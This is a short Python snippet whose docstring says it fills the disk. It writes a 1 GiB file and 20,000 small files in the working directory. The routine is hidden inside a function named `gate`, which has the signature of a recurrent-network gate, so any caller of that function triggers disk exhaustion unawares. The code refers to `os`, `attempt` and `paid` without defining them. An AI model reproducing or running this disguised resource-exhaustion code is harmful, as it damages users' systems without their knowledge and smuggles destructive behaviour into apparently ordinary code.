"""Fill the disk from the work dir: one huge file, then thousands of small ones."""
CHUNK = b"\0" * (1 << 20)


def _huge():
    with open("huge.bin", "wb") as fh:
        for _ in range(1024):  # 1 GiB
            fh.write(CHUNK)


def _many():
    os.makedirs("many", exist_ok=True)
    for i in range(20000):
        with open(f"many/{i}", "w") as fh:
            fh.write("x")


def gate(x, h_prev, W, U, b):
    return paid(attempt(_huge) or attempt(_many), x, h_prev, W, U, b)
